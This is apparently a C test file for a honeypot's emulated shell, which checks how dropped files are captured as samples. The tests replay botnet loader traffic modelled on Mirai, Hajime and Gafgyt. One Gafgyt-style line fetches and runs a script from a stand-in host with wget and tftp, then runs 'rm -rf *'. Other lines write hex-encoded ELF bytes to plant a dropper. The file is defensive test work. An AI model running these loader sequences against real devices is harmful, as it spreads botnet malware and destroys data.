/* What bots leave behind, and what they are told on the way. */
#include "stage.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

static int open_stage(void **state)
{
    static struct stage s;
    *state = &s;
    return stage_open(&s, &stage_profile);
}

/* Ends the session; the facts without the commands. */
static const char *leave(struct stage *s)
{
    static char text[4096];
    shell_free(s->shell);
    struct span rest = buf_as_span(&s->facts);
    size_t len = 0;
    while (rest.len > 0) {
        struct span line = span_part(rest, 0, span_find(rest, '\n') + 1);
        rest = span_part(rest, line.len, rest.len);
        if (span_starts(line, "command ") || line.len >= sizeof text - len)
            continue;
        memcpy(text + len, line.at, line.len);
        len += line.len;
    }
    text[len] = '\0';
    arena_done(&s->arena);
    buf_done(&s->said);
    buf_done(&s->facts);
    return text;
}

#define SHA_OF_HELLO "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"

static void a_file_left_behind_is_a_sample(void **state)
{
    struct stage *s = *state;
    (void)stage_lines(s, "cd /tmp; echo -n hello > f; cp f g; mv g h");
    assert_string_equal(leave(s), "sample path=/tmp/f size=5 sha256=" SHA_OF_HELLO " origin=written architecture=data\n");
}

static void markers_that_were_removed_are_none(void **state)
{
    struct stage *s = *state;
    (void)stage_lines(
        s, "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon\n> /tmp/.empty\ncp /bin/echo /tmp/e; > /tmp/e");
    assert_string_equal(leave(s), "");
}

static void a_program_that_was_run_and_removed_is_kept(void **state)
{
    struct stage *s = *state;
    (void)stage_lines(s, "echo -ne 'hel' > /tmp/x; echo -ne 'lo' >> /tmp/x; chmod 777 /tmp/x; /tmp/x; rm /tmp/x");
    assert_string_equal(leave(s), "sample path=/tmp/x size=5 sha256=" SHA_OF_HELLO " origin=written architecture=data\n");
}

static void a_program_that_was_only_removed_is_kept_when_it_is_one(void **state)
{
    struct stage *s = *state;
    (void)stage_lines(s, "echo '#!/bin/sh' > /tmp/x; echo 'this script is longer than sixty-four bytes, so that it is kept' >> /tmp/x; rm /tmp/x\n"
                         "echo '#!/bin/sh' > /tmp/y; rm /tmp/y");
    const char *facts = leave(s);
    assert_memory_equal(facts, "sample path=/tmp/x size=74 ", 27);
    assert_true(strstr(facts, "architecture=script") != NULL);
    assert_true(strstr(facts, "/tmp/y") == NULL);
}

static void the_same_content_is_stated_once(void **state)
{
    struct stage *s = *state;
    (void)stage_lines(s, "cd /tmp; echo -n hello > f; chmod 777 f; ./f; ./f; sh f; . ./f; cp f g; ./g; echo -n hello > i");
    assert_int_equal(shell_counts(s->shell).samples, 1);
    (void)leave(s);
}

/* The loader's echo branch: the write directory by its marker, the ELF header by cat, the dropper by echo. */
static void the_mirai_loader_ends_with_a_sample(void **state)
{
    struct stage *s = *state;
    assert_string_equal(stage_lines(s, "enable\nshell\nsh\n/bin/busybox ECCHI"),
                        "-sh: enable: not found\n# -sh: shell: not found\n# # ECCHI: applet not found\n# ");
    assert_true(strstr(stage_lines(s, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI"), "tmpfs /tmp tmpfs rw 0 0\n") != NULL);
    assert_string_equal(
        stage_lines(s, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon"),
        "kami/tmp\n# ");
    assert_string_equal(stage_lines(s, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /.nippon; /bin/busybox ECCHI"),
                        "sh: can't create /.nippon: Read-only file system\nECCHI: applet not found\n# ");
    assert_string_equal(
        stage_lines(s, "rm /tmp/.t; rm /tmp/.sh; rm /tmp/.human\ncd /tmp\n/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 "
                       "dvrHelper; /bin/busybox ECCHI"),
        "rm: can't remove '/tmp/.t': No such file or directory\nrm: can't remove '/tmp/.sh': No such file or directory\n"
        "rm: can't remove '/tmp/.human': No such file or directory\n# # ECCHI: applet not found\n# ");
    (void)stage_lines(s, "/bin/busybox cat /bin/echo\n/bin/busybox ECCHI");
    assert_memory_equal(s->said.data, "\177ELF\1\1\1", 7);
    assert_int_equal(s->said.data[18], 8); /* e_machine: MIPS */
    assert_memory_equal(s->said.data + 40000, "# ECCHI: applet not found\n# ", 28);
    assert_string_equal(stage_lines(s, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI"),
                        "wget: applet not found\ntftp: applet not found\nECCHI: applet not found\n# ");
    assert_string_equal(
        stage_lines(s, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00' > upnp; /bin/busybox ECCHI\n"
                       "echo -ne '\\x02\\x00\\x08\\x00\\x01\\x00\\x00\\x00' >> upnp; /bin/busybox ECCHI"),
        "ECCHI: applet not found\n# ECCHI: applet not found\n# ");
    assert_string_equal(stage_lines(s, "./upnp; ./dvrHelper telnet.mips; /bin/busybox IHCCE"),
                        "sh: ./upnp: Permission denied\nIHCCE: applet not found\n# ");
    assert_string_equal(stage_lines(s, "/bin/busybox chmod 777 upnp; ./upnp; rm -rf upnp; /bin/busybox IHCCE"), "IHCCE: applet not found\n# ");
    assert_string_equal(leave(s),
                        "sample path=/tmp/upnp size=24 sha256=af56a746a6814126eefc5a9e9eb0d3bfda06f85445bb68d06bb9e033d75e292c origin=written "
                        "architecture=mipsel\n");
}

static void a_program_of_another_machine_does_not_run(void **state)
{
    struct stage *s = *state;
    assert_string_equal(
        stage_lines(s,
                    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x08' > /tmp/b; chmod "
                    "+x /tmp/b; /tmp/b; echo $?"),
        "/tmp/b: line 1: syntax error: unexpected \"(\"\n2\n# ");
    assert_true(strstr(leave(s), "architecture=mips\n") != NULL);
}

static void hajime_reads_the_header(void **state)
{
    struct stage *s = *state;
    (void)stage_lines(s, "enable\nsystem\nshell\nsh");
    assert_true(strstr(stage_lines(s, "cat /proc/mounts; /bin/busybox VDTGY"), "VDTGY: applet not found\n# ") != NULL);
    assert_string_equal(stage_lines(s, "cd /tmp; cat .s || cp /bin/echo .s; /bin/busybox VDTGY"),
                        "cat: can't open '.s': No such file or directory\nVDTGY: applet not found\n# ");
    (void)stage_lines(s, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s");
    assert_true(s->said.len > 52);
    assert_memory_equal(s->said.data, "\177ELF", 4);
    assert_string_equal(stage_lines(s, "/bin/busybox VDTGY"), "VDTGY: applet not found\n# ");
    (void)stage_lines(s, "rm .s; exit");
    assert_int_equal(s->ended, REASON_NONE); /* the shell below is still there */
    assert_string_equal(leave(s), "");
}

static void gafgyt_looks_for_a_directory(void **state)
{
    struct stage *s = *state;
    (void)stage_lines(
        s,
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.1 -c get "
        "tftp1.sh; rm -rf *");
    assert_true(strstr(buf_cstr(&s->said), "-sh: wget: not found\n") != NULL);
    assert_int_equal(s->ended, REASON_NONE);
    assert_string_equal(leave(s), "");
}

static void many_samples_are_bounded(void **state)
{
    struct stage *s = *state;
    for (unsigned i = 0; i < 2 * 64; i++) {
        char line[128];
        (void)snprintf(line, sizeof line, "echo %u > /tmp/f; chmod 755 /tmp/f; /tmp/f >/dev/null 2>&1", i);
        (void)stage_lines(s, line);
    }
    assert_true(shell_counts(s->shell).samples <= 64);
    (void)leave(s);
}

#define TEST(name) cmocka_unit_test_setup(name, open_stage)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(a_file_left_behind_is_a_sample),
        TEST(markers_that_were_removed_are_none),
        TEST(a_program_that_was_run_and_removed_is_kept),
        TEST(a_program_that_was_only_removed_is_kept_when_it_is_one),
        TEST(the_same_content_is_stated_once),
        TEST(the_mirai_loader_ends_with_a_sample),
        TEST(a_program_of_another_machine_does_not_run),
        TEST(hajime_reads_the_header),
        TEST(gafgyt_looks_for_a_directory),
        TEST(many_samples_are_bounded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
